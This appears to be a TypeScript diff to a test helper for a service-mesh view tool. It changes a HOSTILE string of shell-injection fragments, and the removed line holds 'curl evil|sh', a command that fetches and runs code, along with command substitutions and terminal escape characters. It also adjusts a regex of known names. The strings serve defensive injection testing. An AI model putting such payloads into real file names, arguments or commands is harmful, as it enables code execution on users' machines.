@@ -1,7 +1,11 @@
 import type { MeshView } from "../../../operations/view/meshView";
+import { copyOf } from "./copyOf";
 
-/** Behind every name: what a shell, a terminal, YAML or JSON could take for more than a name. */
-const HOSTILE = `';touch a;curl evil|sh;#"$(touch b)\`touch c\`&& touch d >e\n\u001B[31m\u202E\\ *{a,b}!`;
+/**
+ * Behind every name: what a shell, a terminal, YAML or JSON could take for more than a name. Short
+ * enough that a mirrored Service may have it.
+ */
+const HOSTILE = `';touch a;#"$(touch b)\`touch c\`>d\n\u001B\u202E\\ *!`;
 
 /** Keys of names that the program does not choose. */
 const NAMES: ReadonlySet<string> = new Set([
@@ -11,7 +15,7 @@ const NAMES: ReadonlySet<string> = new Set([
 
 /** Names that layers look for: with another one the view would be of something else. */
 const KNOWN =
-    /linkerd|^(http|pause|identity|destination|policy|proxy-injector|service-mirror|default)$|^sample|helloworld|metallb|smi|sleep|controller|speaker|kyverno|cp-default/;
+    /linkerd|gateway\.networking\.k8s\.io|^kube|^coredns$|^cilium|^(http|pause|identity|destination|policy|proxy-injector|service-mirror|default)$|^sample|helloworld|metallb|smi|sleep|controller|speaker|kyverno|cp-default/;
 
 /** Texts that the layers read, and that do not end in a command. */
 const READ: ReadonlySet<string> = new Set([
@@ -24,7 +28,7 @@ type Change = (text: string, key: string) => string;
 
 /** A view that reaches its clusters by files, contexts, clouds and a bastion with names of their own. */
 export function namedView(view: MeshView): MeshView {
-    const copy = structuredClone(view);
+    const copy = copyOf(view);
     const configs = new Set([copy.config.clusters, copy.clusters.map((one) => one.config)].flat());
     for (const config of configs) {
         const [context, cloud, host] = ["site-context", "site-cloud", "site-bastion"];
